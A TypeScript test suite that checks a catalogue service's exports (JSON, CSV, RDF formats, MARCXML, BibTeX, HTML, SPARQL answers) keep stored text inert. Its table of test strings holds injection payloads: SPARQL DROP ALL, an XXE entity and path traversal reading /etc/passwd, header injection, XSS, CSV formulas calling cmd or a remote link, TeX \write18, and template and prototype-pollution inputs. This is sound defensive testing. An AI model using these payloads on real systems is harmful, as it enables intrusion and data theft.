// Texts that would be something else in one language or another, in every field that takes a text and in
// every identifier, and back in every format: each answer, read by a parser that is not ours, is what the
// answer for a harmless text is, with the one text in the place of the other. So it is there, exactly, and
// nothing has come in with it.

import { gunzipSync } from 'node:zlib'

import { SaxesParser } from '@rubensworks/saxes'
import { expect } from 'chai'
import { parse as parseCsv } from 'csv-parse/sync'
import jsonld, { type JsonLdDocument } from 'jsonld'
import { Parser, type Quad } from 'n3'
import { parse as parseHtml, type DefaultTreeAdapterTypes as Tree } from 'parse5'
import { RdfXmlParser } from 'rdfxml-streaming-parser'

import { encodeSegment } from '../../src/rdf/terms.js'
import { notInXml } from '../../src/rdf/xml.js'
import { type Resource, listPath, recordPath, resources, useCatalogue } from '../http/catalogue.js'
import { links } from '../http/raw-socket.js'
import { BASE_URL } from '../service.js'
import { ask } from '../sparql/client.js'

// prettier-ignore
const hostile: Readonly<Record<string, string>> = {
  'the end of a SPARQL literal':  `x" . } ; DROP ALL ; { ?s ?p "`,
  'the end of a SPARQL string':   `x' UNION { GRAPH ?g { ?s ?p ?o } } #`,
  'a SPARQL variable':            '?s $s ?g',
  'the end of a Turtle literal':  '""" , <a:b> ; <c:d> """',
  'the end of a line of triples': 'x" .\n<a:s> <a:p> "y" .\n#',
  'an escape that is none':       '\\u0022 \\n \\" \\',
  'the end of an IRI':            '> <javascript:alert(1)> <',
  'a scheme':                     'javascript:alert(1)//',
  'an IRI that is none':          'http://[::1 {x}|^`\\',
  'a keyword of JSON-LD':         '@id',
  'a term of the context':        'title',
  'a blank node':                 '_:b0',
  'a header':                     'x\r\nX-Injected: 1\r\n\r\n<html>',
  'a path':                       '../../etc/passwd%2e%2e%2f..;/\\..\\',
  'the end of an element':        '</dc:title></subfield><b a="1">&amp;&#65;&x;',
  'the end of a section':         ']]><!-- --><?php ?><![CDATA[',
  'an entity':                    '<!DOCTYPE x [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
  'a formula':                    `=HYPERLINK("http://x.example/?"&A1,"x")`,
  'a formula that adds':          '+1+cmd|\' /C calc\'!A0',
  'a formula that subtracts':     '-2+3',
  'a formula of old':             '@SUM(1+1)*cmd',
  'another row':                  'x","y"\r\n"z",|a\\|b',
  'a command of TeX':             '\\input{/etc/passwd} \\write18{id} $x^2_1$ # & % ~',
  'another entry':                'x}},\n@book{y, title = {z}}',
  'a brace':                      '}{ {{ }} \\} \\{',
  'a script':                     '"><script>alert(1)</script><img src=x onerror=alert(1)>',
  'an attribute':                 `' onmouseover='alert(1)' x="`,
  'a template':                   '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {?value} {$maxLength} {?values}',
  'what a replacement means':     "$& $1 $` $' $$ \\1",
  'a regular expression':         '(a+)+$ .* [^x] (?:',
  'a line of a log':              '%s %n %d\n{"level":60,"msg":"forged"}\u001b[31m',
  'a key of every object':        '__proto__ constructor toString',
  'a truth and a number':         'null true NaN 1e999 -0',
  'characters that hide':         'a\u202eb\u200bc\u2028d\u2029e\ufefff',
  'what XML has no way to say':   'a\u0001b\u001fc\ufffed\uffff',
}

/** The harmless text, in an identifier and elsewhere. Both sort like no other text of the pages. */
const harmless = { id: 'Qharmlessid', text: 'Qharmlesstext' }

/** Fields that are more than a text to us, and are left as the examples have them. */
const told = new Set([
  ...[
    'creator',
    'contributor',
    'publisher',
    'zine_id',
    'repository_id',
    'repo_id',
    'agent_id',
    'holding_id',
  ],
  ...['subject', 'genre', 'format', 'language', 'rights', 'kind', 'roles', 'wikidata', 'orcid'],
  ...[
    'website',
    'email',
    'social_media',
    'digital_url',
    'isil',
    'ror',
    'status',
    'repository_kind',
  ],
  ...['country', 'access_status'],
])

// Some formats read these for what they say: a surname and forenames, an ISBN, the height of a thing.
const interpreted = new Set([
  'sort_name',
  'identifier',
  'other_identifiers',
  'physical_dimensions',
  'number_of_pages',
])

describe('Injection', function () {
  this.timeout(60_000)
  const { service } = useCatalogue({ SPARQL_WORKERS: '1' })
  let shapes: any

  before(async () => {
    shapes = (await service().get('/api/schema/?format=json')).body.components.schemas
    for (const words of [harmless, ...Object.values(hostile).map(wordsOf)]) await create(words)
  })

  type Words = typeof harmless

  const idOf = ({ name }: Resource, { id }: Words) => `${id} ${name}`

  /** One record of each resource, every one naming the others, with these words wherever they fit. */
  async function create(words: Words): Promise<void> {
    for (const name of ['agents', 'repositories', 'zines', 'holdings'] as const) {
      const { status, text, headers } = await service().post(listPath(name), recordOf(name, words))
      expect(status, text).to.equal(201)
      expect(headers.get('location')).to.equal(
        `${service().url}/api/${name}/${encodeSegment(`${words.id} ${name}`)}/`,
      )
    }
  }

  function recordOf(name: Resource['name'], words: Words): object {
    const { full, noun } = resourceOf(name)
    const reference = (target: Resource['name']) => `${words.id} ${target}`
    const references = {
      zines: {
        creator: [reference('agents')],
        contributor: [reference('agents'), 'helper'],
        publisher: [reference('agents')],
      },
      agents: {},
      repositories: {},
      holdings: { zine_id: reference('zines'), repository_id: reference('repositories') },
    }
    const record: Record<string, unknown> = full(reference(name), references[name])
    for (const [field, value] of Object.entries(record)) {
      const shape = shapes[`${noun}Write`].properties[field]
      if (told.has(field) || typeof value === 'number' || typeof value === 'boolean') continue
      record[field] = filled(field, value, words, shape)
    }
    return record
  }

  /** The words before or after the name of the field, as far as there is room for them. */
  function filled(field: string, value: unknown, { text }: Words, shape: any): unknown {
    const most: number = (Array.isArray(value) ? shape.items : shape).maxLength ?? Infinity
    const [before, after] = [`${text} ${field}`, `${field} ${text}`]
    const longest =
      Math.max(...[...Object.values(hostile), text].map((one) => one.length)) + field.length
    if (longest >= most || interpreted.has(field)) return value
    if (!Array.isArray(value)) return field.length % 2 === 0 ? before : after
    return field === 'date' ? ['1994', before] : [before, after]
  }

  const resourceOf = (name: Resource['name']): Resource => {
    const found = resources.find((one) => one.name === name)
    if (!found) throw new Error(name)
    return found
  }

  async function read(
    format: string,
    resource: Resource,
    words: Words,
    more = '',
  ): Promise<string> {
    const path = `${recordPath(resource.name, idOf(resource, words))}?format=${format}${more}`
    const { status, text, headers } = await service().get(path)
    expect(status, text).to.equal(200)
    for (const [name, value] of headers)
      expect(`${name}: ${value}`).not.to.match(/[\r\n]|^x-injected/i)
    for (const [, target] of links(headers)) expect(URL.canParse(target), target).to.equal(true)
    return text
  }

  /** What the harmless answer becomes when one text stands for the other, leaf by leaf. */
  function exchanged(leaf: unknown, words: Words, becomes: (text: string) => string): unknown {
    if (Array.isArray(leaf)) return leaf.map((one) => exchanged(one, words, becomes))
    if (typeof leaf === 'object' && leaf !== null)
      return Object.fromEntries(
        Object.entries(leaf).map(([key, one]) => [key, exchanged(one, words, becomes)]),
      )
    if (typeof leaf !== 'string') return leaf
    const isAddress = [BASE_URL, service().url].some((origin) => leaf.startsWith(origin))
    return leaf
      .replaceAll(harmless.id, () => (isAddress ? encodeSegment(words.id) : becomes(words.id)))
      .replaceAll(harmless.text, () => becomes(words.text))
  }

  /** Times are what differs without being told to. */
  const timeless = (text: string): string =>
    text
      .replace(/\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z/g, 'TIME')
      .replace(/\b2\d{13}\.0\b/g, 'TIME')

  type Reader = {
    readonly format: string
    readonly more?: string
    readonly read: (text: string, resource: Resource) => unknown
    /** What becomes of a text on the way, for reasons of the format's own. */
    readonly becomes?: (text: string) => string
    readonly of?: readonly Resource['name'][]
  }

  const readers: readonly Reader[] = [
    { format: 'json', read: (text) => JSON.parse(text) as unknown },
    { format: 'csv', read: readCsv },
    { format: 'csv', more: '&safe=1', read: readSafeCsv },
    {
      format: 'turtle',
      read: (text) => graphOf(new Parser({ format: 'text/turtle' }).parse(text)),
    },
    {
      format: 'ntriples',
      read: (text) => graphOf(new Parser({ format: 'N-Triples' }).parse(text)),
    },
    { format: 'rdfxml', read: readRdfXml, becomes: (text) => text.replace(notInXml, '\ufffd') },
    { format: 'jsonld', read: readJsonld },
    // What XML cannot say is left out.
    { format: 'dc', read: readXml, becomes: (text) => text.replace(notInXml, '') },
    // MARC is written on one line.
    {
      format: 'marcxml',
      read: (text) => readXml(unlined(text)),
      becomes: (text) =>
        text
          .replace(notInXml, ' ')
          .replace(/[\s\p{Cc}]+/gu, ' ')
          .trim(),
      of: ['zines', 'agents', 'holdings'],
    },
    {
      format: 'bibtex',
      read: readBibtex,
      becomes: (text) => text.replace(/[\s\p{Cc}]+/gu, ' ').trim(),
      of: ['zines', 'holdings'],
    },
    { format: 'html', read: readHtml },
  ]

  async function readJsonld(text: string): Promise<unknown> {
    const context = (await service().get('/api/context.jsonld')).body
    const documentLoader = (url: string) => {
      expect(url).to.equal(`${BASE_URL}/api/context.jsonld`)
      return Promise.resolve({ documentUrl: url, document: context })
    }
    const quads: unknown = await jsonld.toRDF(
      JSON.parse(text) as JsonLdDocument,
      {
        format: 'application/n-quads',
        documentLoader,
      } as object,
    )
    return graphOf(new Parser({ format: 'N-Quads' }).parse(quads as string))
  }

  for (const [what, text] of Object.entries(hostile))
    describe(`of ${what}`, () => {
      const words = wordsOf(text)

      for (const reader of readers)
        it(`is none in ${reader.format}${reader.more ?? ''}`, async () => {
          for (const resource of resources) {
            if (reader.of && !reader.of.includes(resource.name)) continue
            const [expected, given] = await Promise.all(
              [harmless, words].map(async (one) =>
                reader.read(
                  timeless(await read(reader.format, resource, one, reader.more)),
                  resource,
                ),
              ),
            )
            const { becomes = same } = reader
            expect(sorted(given)).to.deep.equal(sorted(exchanged(expected, words, becomes)))
          }
        })
    })

  describe('of all of them together', () => {
    const total = Object.keys(hostile).length + 1

    for (const { format, of, read: parse } of readers.filter(({ more }) => more === undefined))
      if (format !== 'html')
        it(`is none in the exports as ${format}`, async () => {
          for (const resource of resources) {
            const { name } = resource
            if (of && !of.includes(name)) continue
            const { status, text, headers } = await service().get(
              `/api/${name}/export/?format=${format}`,
            )
            expect(status).to.equal(200)
            expect(headers.get('content-disposition')).to.match(
              /^attachment; filename="[a-z]+\.[a-z]+"$/,
            )
            expect(Number(headers.get('x-total-count'))).to.be.at.least(total)
            expect(await parse(text, resource)).not.to.be.empty
          }
        })

    it('is none in the dumps', async () => {
      const titles = Object.values(hostile).map((text) => `title ${text}`)
      const dumps = [
        ['catalogue.nt.gz', 'N-Triples'],
        ['catalogue.ttl.gz', 'Turtle'],
      ] as const
      // Both before either is parsed: the service would close a connection that is idle meanwhile.
      const packed = await Promise.all(
        dumps.map(async ([name]) => (await fetch(`${service().url}/dumps/${name}`)).arrayBuffer()),
      )
      for (const [at, [, type]] of dumps.entries()) {
        const text = gunzipSync(packed[at] ?? new ArrayBuffer(0)).toString('utf8')
        const quads = new Parser({ format: type }).parse(text)
        const values = new Set(quads.map(({ object }) => object.value))
        expect(titles.filter((title) => !values.has(title))).to.deep.equal([])
        for (const { subject, predicate } of quads) {
          expect(subject.value).not.to.match(/^[ac]:/)
          expect(predicate.value).not.to.match(/^[ac]:/)
        }
      }
    })

    // prettier-ignore
    const tables: readonly (readonly [type: string, read: (text: string) => unknown])[] = [
      ['application/sparql-results+json', (text) => JSON.parse(text).results.bindings.map((row: any) => row.o.value)],
      ['text/csv', (text) => parseCsv(text, { columns: true }).map((row: any) => row.o)],
      ['application/sparql-results+xml', (text) => literalsIn(text)],
      ['text/tab-separated-values', (text) => text.trim().split('\n').slice(1).map((line) => new Parser().parse(`<a:s> <a:p> ${line} .`)[0]?.object.value)],
    ]

    for (const [type, parse] of tables)
      it(`is none in answers to SPARQL as ${type}`, async () => {
        const query = `SELECT ?o { ?s <http://purl.org/dc/terms/title> ?o . FILTER(STRSTARTS(?o, "title ")) }`
        const { status, text } = await ask(service(), query, { accept: type })
        expect(status, text).to.equal(200)
        const clean = (title: string) =>
          type.endsWith('xml') ? title.replace(notInXml, '') : title
        const titles = [harmless.text, ...Object.values(hostile)].map((one) =>
          clean(`title ${one}`),
        )
        expect(parse(text)).to.have.members(titles)
      })
  })
})

const same = (text: string): string => text

// No identifier has control characters or is white space at an end; U+FFFE has a test of its own.
function wordsOf(text: string) {
  return {
    id: text.replace(/[\p{Cc}\ufffe\uffff]+/gu, ' ').trim(),
    text,
  }
}

/** A graph has no order. */
function sorted(value: unknown): unknown {
  if (typeof value !== 'object' || value === null || !('statements' in value)) return value
  return (value.statements as unknown[]).map((one) => JSON.stringify(one)).sort()
}

/** Each statement as the texts of its terms. */
const graphOf = (quads: readonly Quad[]): unknown => ({
  statements: quads.map(({ subject, predicate, object }) => [
    subject.value,
    predicate.value,
    object.termType,
    object.value,
  ]),
})

/** Rows with their cells by name; those of several values taken apart. */
function readCsv(text: string, { full }: Resource): unknown {
  const example: Readonly<Record<string, unknown>> = full('any')
  const hasMany = (name: string): boolean =>
    Array.isArray(example[name] ?? example[name.replace(/_names$/, '')])
  const rows: Record<string, string>[] = parseCsv(text, { columns: true })
  return rows.map((row) =>
    Object.entries(row).map(([name, cell]) => [name, hasMany(name) ? split(cell) : cell]),
  )
}

/** The values of a cell: `|` is between two, unless there is a backslash before it. */
const split = (cell: string): string[] =>
  (cell.match(/(?:\\[^]|[^\\|])+/g) ?? []).map((value) => value.replace(/\\([^])/g, '$1'))

/** No cell of a safe sheet is a formula; the apostrophe before what would be one is its guard. */
function readSafeCsv(text: string, resource: Resource): unknown {
  const rows: string[][] = parseCsv(text)
  for (const cell of rows.flat()) expect(cell).not.to.match(/^[=+\-@\t\r]/)
  return readCsv(text.replace(/(^|,|")'(?=[=+\-@\t\r])/gm, '$1'), resource)
}

function readRdfXml(text: string): Promise<unknown> {
  return new Promise((resolve, reject) => {
    const quads: Quad[] = []
    const parser = new RdfXmlParser({ baseIRI: BASE_URL })
    parser.on('data', (quad: Quad) => quads.push(quad))
    parser.on('error', reject)
    parser.on('end', () => resolve(graphOf(quads)))
    parser.end(text)
  })
}

/** A table of contents has dashes where its lines ended; identifiers keep what texts on one line do not. */
const unlined = (text: string): string =>
  text.replaceAll(' -- ', ' ').replace(/[\u2028\u2029\ufeff]/g, ' ')

/** The literals of SPARQL's XML. */
function literalsIn(text: string): string[] {
  const found: string[] = []
  const parser = new SaxesParser({ xmlns: true })
  let content = ''
  parser.on('opentag', () => (content = ''))
  parser.on('text', (more) => (content += more))
  parser.on('closetag', ({ local }) => local === 'literal' && found.push(content))
  parser.write(text).close()
  return found
}

/** Elements with their attributes and texts, in their order. */
function readXml(text: string): unknown {
  const found: unknown[] = []
  const parser = new SaxesParser({ xmlns: true })
  parser.on('opentag', ({ name, attributes }) =>
    found.push([name, Object.entries(attributes).map(([key, { value }]) => [key, value])]),
  )
  parser.on('text', (content) => found.push(content))
  parser.on('comment', () => found.push('a comment'))
  parser.on('cdata', () => found.push('a section'))
  parser.on('processinginstruction', () => found.push('an instruction'))
  parser.on('error', (error) => {
    throw error
  })
  parser.write(text).close()
  return found
}

/** Entries as BibTeX reads them, which counts braces whatever is before them; without keys, which are hashes. */
function readBibtex(text: string): unknown {
  const entries: unknown[] = []
  let rest = text
  for (;;) {
    const [head, type = '', key = ''] = /^\s*@(\w+)\{([\w:.-]+),/.exec(rest) ?? []
    if (head === undefined) break
    rest = rest.slice(head.length)
    const fields: unknown[] = []
    for (;;) {
      const [start, name = '', macro] = /^\s*(\w+) = (?:\{|(\w+),)/.exec(rest) ?? []
      if (start === undefined) break
      rest = rest.slice(start.length)
      if (macro === undefined) {
        const end = endOfBraces(rest)
        fields.push([name, unlined(spoken(rest.slice(0, end)))])
        rest = rest.slice(end + 1).replace(/^,/, '')
      }
    }
    expect(rest, key).to.match(/^\s*\}/)
    rest = rest.replace(/^\s*\}/, '')
    entries.push([type, fields])
  }
  expect(rest.trim()).to.equal('')
  return entries
}

function endOfBraces(text: string): number {
  let depth = 1
  for (const [index, character] of Array.from(text).entries()) {
    depth += { '{': 1, '}': -1 }[character] ?? 0
    if (depth === 0) return Array.from(text).slice(0, index).join('').length
  }
  throw new Error('a brace is not closed')
}

/** What TeX would print. */
const spoken = (text: string): string =>
  text
    .replace(/[{}]/g, '')
    .replace(
      /\\text(backslash|braceleft|braceright|asciitilde|asciicircum)/g,
      (_, name: string) => signs[name] ?? '',
    )
    .replace(/\\([%$#&_])/g, '$1')

const signs: Readonly<Record<string, string>> = {
  backslash: '\\',
  braceleft: '{',
  braceright: '}',
  asciitilde: '~',
  asciicircum: '^',
}

/** The elements of a page with the names of their attributes; and nothing that runs, or leads to what runs. */
function readHtml(text: string): unknown {
  const found: unknown[] = []
  const visit = (node: Tree.Node): void => {
    if ('tagName' in node) {
      for (const { name, value } of node.attrs) {
        expect(name).not.to.match(/^on|^style$|^srcdoc$/)
        if (['href', 'src', 'action', 'formaction'].includes(name))
          expect(value).to.match(/^(?:https?:\/\/|mailto:|\/(?!\/)|[?#])/)
      }
      found.push([node.tagName, node.attrs.map(({ name }) => name)])
    }
    if (node.nodeName === '#comment') found.push('a comment')
    if ('childNodes' in node) node.childNodes.forEach(visit)
  }
  visit(parseHtml(text))
  return found
}
